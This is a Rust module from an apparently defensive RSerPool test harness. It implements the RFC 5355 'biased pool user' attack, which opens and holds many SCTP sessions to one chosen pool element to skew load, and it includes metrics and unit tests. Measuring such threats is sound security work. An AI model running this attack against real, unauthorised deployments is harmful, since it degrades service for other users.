//! `biased-pu` (RFC 5355 §2.17): an insider pool user that ignores the
//! pool policy and always picks the same PE. It resolves the pool once
//! (every PE, from the first target), takes the victim (`--pe-id`, else
//! the seed's choice), and per action opens a session with it — an SCTP
//! association to its user transport with one echo request — and holds
//! it, at most [`MAX_HELD`] at once (beyond, the oldest is closed), so the
//! victim carries the attacker's sessions on top of its share of everyone
//! else's. The workload measures the skew at the PEs' side.

use std::collections::VecDeque;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use anyhow::{Context, Result};
use client_core::policy::Rng;
use client_core::wire::{consts, PoolElement, PoolElementId};
use rserpool_sctp::SctpAssociation;

use super::{delta, pick_victim, spawn_sampler, Act, Attack, Common, Ctx};
use crate::bounds::MAX_SESSIONS;
use crate::fields;
use crate::messages::parse_pe_id;
use crate::net;
use crate::output::Output;
use crate::stop::Stop;

/// Sessions the attacker holds at once.
pub const MAX_HELD: usize = MAX_SESSIONS;

#[derive(Clone, Debug, clap::Args)]
pub struct Args {
    /// A registrar's ASAP endpoint, resolved once for the victim.
    #[command(flatten)]
    pub common: Common,
    /// The PE every session goes to (hex 0x… or decimal). Default: one of
    /// the pool's, chosen by the seed.
    #[arg(long = "pe-id", value_name = "ID", value_parser = parse_pe_id)]
    pub pe_id: Option<u32>,
    /// Interval of the attacker's sample lines (`biased_sessions`).
    #[arg(long = "sample-ms", value_name = "MS", default_value_t = 250)]
    pub sample_ms: u64,
}

/// Where a session with `pe` goes: its user transport's first address.
pub fn session_endpoint(pe: &PoolElement) -> Option<SocketAddr> {
    let t = &pe.user_transport;
    t.addresses.first().map(|ip| SocketAddr::new(*ip, t.port))
}

/// The sessions held, oldest first, bounded by `max`: adding one beyond
/// it gives back the oldest (to be closed).
pub struct Held<T> {
    max: usize,
    sessions: VecDeque<T>,
}

impl<T> Held<T> {
    pub fn new(max: usize) -> Self {
        Held {
            max: max.max(1),
            sessions: VecDeque::new(),
        }
    }
    pub fn push(&mut self, s: T) -> Option<T> {
        self.sessions.push_back(s);
        (self.sessions.len() > self.max)
            .then(|| self.sessions.pop_front())
            .flatten()
    }
    pub fn len(&self) -> usize {
        self.sessions.len()
    }
    pub fn is_empty(&self) -> bool {
        self.sessions.is_empty()
    }
}

#[derive(Default)]
struct Tally {
    opened: AtomicU64,
    echoed: AtomicU64,
    held: AtomicU64,
}

struct BiasedPu {
    victim: SocketAddr,
    victim_id: PoolElementId,
    held: Held<Arc<SctpAssociation>>,
    tally: Arc<Tally>,
}

impl Attack for BiasedPu {
    async fn act(&mut self, seq: u64, _rng: &mut Rng, _out: &Output) -> Result<Act> {
        let assoc = Arc::new(net::connect(None, self.victim).await?);
        assoc
            .send(
                consts::PPID_APPLICATION_DEFAULT,
                0,
                format!("biased {seq}\n").as_bytes(),
            )
            .await
            .context("sending the echo request")?;
        // The answer is counted when it comes; the session stays open.
        let (a, tally) = (assoc.clone(), self.tally.clone());
        tokio::spawn(async move {
            while a.recv().await.is_ok() {
                tally.echoed.fetch_add(1, Ordering::Relaxed);
            }
        });
        self.tally.opened.fetch_add(1, Ordering::Relaxed);
        if let Some(oldest) = self.held.push(assoc) {
            let _ = oldest.shutdown();
        }
        self.tally
            .held
            .store(self.held.len() as u64, Ordering::Relaxed);
        Ok((
            "open-session",
            fields! {
                "pe_id" => self.victim_id.to_string(),
                "peer" => self.victim.to_string(),
                "held" => self.held.len(),
            },
        ))
    }
}

pub async fn run(a: Args, stop: Stop) -> Result<()> {
    let mut ctx = Ctx::new(&a.common, stop);
    let target = ctx.targets[0];
    let pool = ctx.pool.clone();
    let Some(listed) = ctx
        .setup(async {
            let assoc = net::connect(None, target).await?;
            let listed = net::resolve_all(&assoc, &pool).await?;
            let _ = assoc.shutdown();
            Ok(listed)
        })
        .await
    else {
        return Ok(());
    };
    let victim = match pick_victim(listed, a.pe_id, &pool, &mut ctx.rng).and_then(|v| {
        session_endpoint(&v)
            .map(|e| (v.id, e))
            .context("victim has no address")
    }) {
        Ok(v) => v,
        Err(e) => {
            ctx.out.event("error", format!("{e:#}"));
            ctx.out
                .done(crate::output::Reason::Error, 0, serde_json::Map::new());
            return Ok(());
        }
    };
    ctx.out.event(
        "victims",
        fields! {"pe_id" => victim.0.to_string(), "peer" => victim.1.to_string()},
    );
    let tally = Arc::new(Tally::default());
    let sampler = {
        let tally = tally.clone();
        let (mut opened, mut echoed) = (0, 0);
        spawn_sampler(ctx.out.clone(), a.sample_ms, move || {
            fields! {
                "biased_opened" => delta(&tally.opened, &mut opened),
                "biased_echoes" => delta(&tally.echoed, &mut echoed),
                "biased_sessions" => tally.held.load(Ordering::Relaxed),
            }
        })
    };
    let mut attack = BiasedPu {
        victim: victim.1,
        victim_id: victim.0,
        held: Held::new(MAX_HELD),
        tally: tally.clone(),
    };
    let f = super::run_paced(&mut attack, &mut ctx, true).await;
    sampler.abort();
    super::done(
        &ctx,
        f,
        fields! {
            "pe_id" => victim.0.to_string(),
            "opened" => tally.opened.load(Ordering::Relaxed),
            "echoed" => tally.echoed.load(Ordering::Relaxed),
        },
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use client_core::wire::{SelectionPolicy, ServerId, TransportAddress};

    #[test]
    fn holds_at_most_its_bound_and_gives_back_the_oldest() {
        let mut h = Held::new(2);
        assert_eq!(h.push(1), None);
        assert_eq!(h.push(2), None);
        assert_eq!(h.push(3), Some(1));
        assert_eq!(h.push(4), Some(2));
        assert_eq!(h.len(), 2);
    }

    #[test]
    fn every_session_goes_to_the_victims_user_transport() {
        let pe = PoolElement {
            id: PoolElementId(7),
            home_registrar: ServerId(1),
            registration_life_ms: 30_000,
            user_transport: TransportAddress::sctp(
                40001,
                consts::transport_use::DATA_PLUS_CONTROL,
                vec!["10.1.0.1".parse().unwrap(), "10.0.2.15".parse().unwrap()],
            ),
            policy: SelectionPolicy::RoundRobin,
            registrator_transport: None,
        };
        assert_eq!(
            session_endpoint(&pe),
            Some("10.1.0.1:40001".parse().unwrap())
        );
        let mut none = pe.clone();
        none.user_transport.addresses.clear();
        assert_eq!(session_endpoint(&none), None);
    }
}
